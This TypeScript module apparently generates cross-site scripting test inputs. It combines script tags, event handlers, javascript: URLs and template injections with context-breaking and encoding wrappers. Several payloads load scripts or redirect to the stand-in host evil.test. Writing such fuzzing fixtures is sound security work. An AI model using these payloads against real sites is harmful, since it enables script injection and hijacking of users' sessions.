const run = "globalThis.ran=1;alert(1)"

const elements = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script src="https://evil.test/x.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img/src/onerror=${run}>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror="${run}">`,
  `<body onload="${run}">`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<form action="https://evil.test"><button autofocus onfocus="${run}">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test">`,
  `<base href="https://evil.test/">`,
  `<link rel="stylesheet" href="https://evil.test/x.css">`,
  `<style>@import "https://evil.test/x.css"</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `javascript:${run}`,
  `{{constructor.constructor("${run}")()}}`,
  `\${${run}}`
] as const

const wrappings: ReadonlyArray<(element: string) => string> = [
  (element) => element,
  (element) => `">${element}`,
  (element) => `'>${element}`,
  (element) => `</title>${element}`,
  (element) => `</p>${element}<p>`,
  (element) => `-->${element}<!--`,
  (element) => `]]>${element}`,
  (element) => `</textarea></script>${element}`,
  (element) => `\u0000${element}`,
  (element) => `\r\n\r\n${element}`,
  (element) => element.replaceAll("<", "\u226e").replaceAll(">", "\u226f"),
  (element) => element.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (element) => element.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (element) => encodeURIComponent(element),
  (element) => element.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (element) => `access_denied${element}`,
  (element) => `\u202e${element}`,
  (element) => `<<${element}>>`
]

/** What would run, or call out, where a page repeated it: every element first, then each in more of its wrappings. */
export const payloads = (count: number): ReadonlyArray<string> =>
  wrappings.flatMap((wrapped) => elements.map((element) => wrapped(element))).slice(0, count)
